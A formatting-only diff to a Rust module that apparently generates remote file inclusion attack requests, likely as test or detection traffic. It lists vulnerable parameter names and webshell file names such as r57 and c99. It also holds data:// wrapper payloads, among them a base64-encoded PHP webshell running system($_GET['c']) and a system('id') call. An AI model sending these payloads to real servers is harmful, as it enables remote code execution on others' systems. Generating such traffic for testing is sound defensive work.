@@ -10,8 +10,34 @@ use crate::{Carrier, Family, Rng, Variant};
 pub struct RemoteFileInclude;
 
 const NAMES: &[&str] = &[
-    "page", "file", "include", "inc", "template", "tpl", "lang", "language", "module", "path", "doc", "view", "layout", "dir", "folder",
-    "theme", "skin", "conf", "config", "load", "read", "include_path", "page_name", "filename", "mod", "cat", "menu", "pg",
+    "page",
+    "file",
+    "include",
+    "inc",
+    "template",
+    "tpl",
+    "lang",
+    "language",
+    "module",
+    "path",
+    "doc",
+    "view",
+    "layout",
+    "dir",
+    "folder",
+    "theme",
+    "skin",
+    "conf",
+    "config",
+    "load",
+    "read",
+    "include_path",
+    "page_name",
+    "filename",
+    "mod",
+    "cat",
+    "menu",
+    "pg",
 ];
 const SCRIPTS: &[&str] = &["shell.txt", "s.txt", "r57.txt", "c99.txt", "x.txt", "cmd.inc", "b.php", "evil.jpg", "x.gif", "inc/shell.txt"];
 
@@ -54,8 +80,12 @@ fn location(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
         }
         8 => {
             names.push("data-wrapper");
-            rng.pick(&["data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+", "data:text/plain,<?php system('id');?>", "data://text/plain,<?php phpinfo()?>"])
-                .to_string()
+            rng.pick(&[
+                "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
+                "data:text/plain,<?php system('id');?>",
+                "data://text/plain,<?php phpinfo()?>",
+            ])
+            .to_string()
         }
         _ => {
             names.push("expect-wrapper");
@@ -107,7 +137,9 @@ impl Family for RemoteFileInclude {
         let request = match rng.below(4) {
             0 => {
                 names.push("form");
-                Request::new("POST", script).header("Content-Type", "application/x-www-form-urlencoded").body(&format!("id=3&{name}={encoded}"))
+                Request::new("POST", script)
+                    .header("Content-Type", "application/x-www-form-urlencoded")
+                    .body(&format!("id=3&{name}={encoded}"))
             }
             1 => {
                 names.push("cookie");
